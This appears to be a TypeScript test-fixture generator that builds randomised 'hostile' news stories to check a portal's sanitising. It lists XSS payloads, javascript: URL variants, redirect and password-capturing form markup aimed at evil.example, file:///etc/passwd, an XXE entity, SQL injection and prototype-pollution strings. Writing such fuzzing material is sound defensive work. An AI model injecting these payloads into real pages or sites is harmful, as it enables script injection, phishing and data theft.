import type { Random } from '../Random.ts'

/** A story as somebody with bad intent would write it. */
export interface HostileStory {
  readonly headline: string
  readonly link: string
  readonly label: string
  readonly date: string
  readonly body: { readonly content: string; readonly links: readonly { readonly text: string; readonly url: string }[] }
  readonly tags: readonly string[]
}

/** Each would leave its mark in a page that runs it. */
const RUN = 'window.__ran=1'
const markup = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><svg/onload=${RUN}>`,
  `'onmouseover='${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example"><input name=password autofocus></form>',
  `<math><mtext></mtext><style><img src=x onerror=${RUN}></style></math>`,
  '<template><b>x</b></template>',
  '</title></textarea></noscript></p></article></li></ol></main>',
  `<!--><img src=x onerror=${RUN}>-->`,
  ']]>',
  '<![CDATA[<b>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>&a;',
  '&lt;script&gt;&#60;b&#62;&#x3c;i&#x3e;&amp;lt;',
  '<plaintext>',
  '<xmp>',
]
const signs = [
  '*',
  '/',
  '_',
  '`',
  '**',
  '*_/`',
  '\\',
  '\\\\',
  '\\*',
  '\\{0}',
  '{0}',
  '{1}',
  '{19}',
  '{20}',
  '{99999999999999999999}',
  '{-1}',
  '{}',
  '{{0}}',
]
const words = [
  'salt',
  'and/or',
  'snake_case',
  '2*3*4',
  'x',
  ' ',
  '\n',
  '\r\n',
  '\n\n',
  '\t',
  '-- ',
  '--',
  '\n-- \n',
  '> quoted',
  'https://example.org',
  '𝛔t',
]
const odd = [
  '\u202e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\ud800',
  '\udfff',
  '\ufffe',
  '\u{1f42c}',
]
const addresses = [
  '/catalog',
  '/unsubscribe',
  'https://example.org/a?b=c#d',
  'http://example.org',
  'example.org/path',
  'mailto:a@example.org',
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `/\\evil.example`,
  '//evil.example',
  '/\t/evil.example',
  '\\\\evil.example',
  'https:evil.example',
  'https://user:pass@evil.example',
  'data:text/html,<script>1</script>',
  'vbscript:x',
  'blob:https://example.org/x',
  'file:///etc/passwd',
  `mailto:a@b.c?body="><img src=x onerror=${RUN}>`,
  `https://example.org/"onclick="${RUN}`,
  "https://example.org/'><b>",
  'https://[::1]/',
  'view-source:https://example.org',
  '',
  ' ',
]
const tags = ['Nino12_SST', 'nino12_sst', 'COADS_Climatology', '<b>', "' OR 1=1 --", '../x', '__proto__']

const text = (random: Random, most: number): string =>
  Array.from({ length: random.whole(1, most) }, () => random.pick(random.pick([markup, signs, words, words, odd]))).join('')

/** Story `index` of a seed. Some have nothing that a portal would reject, so that they come in by its calls. */
export function hostileStory(random: Random): HostileStory {
  const isTame = random.chance(0.5)
  const tamed = (value: string) => (isTame ? value.replace(/[^\P{C}\n]/gu, '').trim() || 'salt' : value)
  const line = (most: number) => tamed(text(random, most)).replace(isTame ? /\s+/g : /$^/, ' ')
  const address = () => (isTame ? random.pick(addresses.slice(0, 6)) : random.pick(addresses))
  return {
    headline: line(4).slice(0, 120).trim() || 'salt',
    link: address(),
    label: line(2).slice(0, 40).trim(),
    date: '2026-01-10',
    body: {
      content: tamed(text(random, 30)).slice(0, 4000),
      links: Array.from({ length: random.whole(0, 4) }, () => ({ text: line(3).slice(0, 200).trim() || 'x', url: address() })),
    },
    tags: isTame ? ['Nino12_SST'] : random.several(tags, 0, 2),
  }
}
